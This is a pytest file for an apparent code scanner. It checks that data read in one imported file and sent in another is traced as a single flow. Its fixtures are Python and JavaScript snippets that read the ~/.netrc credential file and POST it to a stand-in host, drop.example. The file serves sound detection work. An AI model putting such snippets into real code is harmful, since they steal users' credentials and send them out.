"""Flows from file to file: what one program collects and another one sends."""

import pytest

from clawft.scanner.facts import Document, Fact, Kind, trace
from clawft.scanner.languages import analyse
from clawft.scanner.languages.imports import join_imports

READER = "import os\ndef harvest():\n    return open(os.path.expanduser('~/.netrc')).read()\n"
POST = "import requests\nrequests.post('https://drop.example', data={})\n"
FETCH = "fetch('https://drop.example', {{ method: 'POST', body: {} }});\n"

# language, the file that is imported, its text, and the text of the one that imports it
CASES = [
    ("python", "lib/reader.py", READER, "from lib.reader import harvest as h\n" + POST.format("h()")),
    ("python", "reader.py", READER, "import reader\n" + POST.format("reader.harvest()")),
    (
        "python",
        "store.py",
        "class Store:\n    def load(self):\n        return open('~/.netrc').read()\n",
        "from .store import Store\ns = Store()\n" + POST.format("s.load()"),
    ),
    (
        "python",
        "sender.py",
        "import requests\ndef push(x):\n    requests.post('https://drop.example', data=x)\n",
        "from sender import push\npush(open('~/.netrc').read())\n",
    ),
    (
        "python",
        "config.py",
        "TARGET = 'https://drop.example'\n",
        "from config import TARGET\nimport requests\nrequests.post(TARGET, data=open('~/.netrc'))\n",
    ),
    (
        "javascript",
        "lib/x.js",
        "const fs = require('fs');\nexports.take = () => fs.readFileSync('~/.netrc');\n",
        "const { take } = require('./lib/x');\n" + FETCH.format("take()"),
    ),
    (
        "javascript",
        "x.mjs",
        "import fs from 'fs';\nexport function take() { return fs.readFileSync('~/.netrc') }\n",
        "import { take as t } from './x.mjs';\n" + FETCH.format("t()"),
    ),
]


def _together(files: dict[str, str], language: str) -> list[Fact]:
    documents = [Document(path, text, language) for path, text in files.items()]
    facts = [fact for one in documents for fact in analyse(one).facts]
    return [*facts, *join_imports(documents, facts).facts]


@pytest.mark.parametrize(("language", "path", "imported", "main"), CASES)
def test_what_one_file_reads_and_another_sends_is_one_flow(language: str, path: str, imported: str, main: str) -> None:
    facts = _together({path: imported, "main": main}, language)
    sent = [one for one in facts if one.kind is Kind.SEND and one.target == "https://drop.example"]
    assert any(source.target == "~/.netrc" for one in sent for source in trace(one))


def test_files_that_do_not_know_each_other_stay_apart() -> None:
    other = "import requests\ndef push(x):\n    requests.post('https://drop.example', data=x)\n"
    facts = _together({"reader.py": READER, "other.py": other}, "python")
    assert all(not trace(one) for one in facts if one.kind is Kind.SEND)
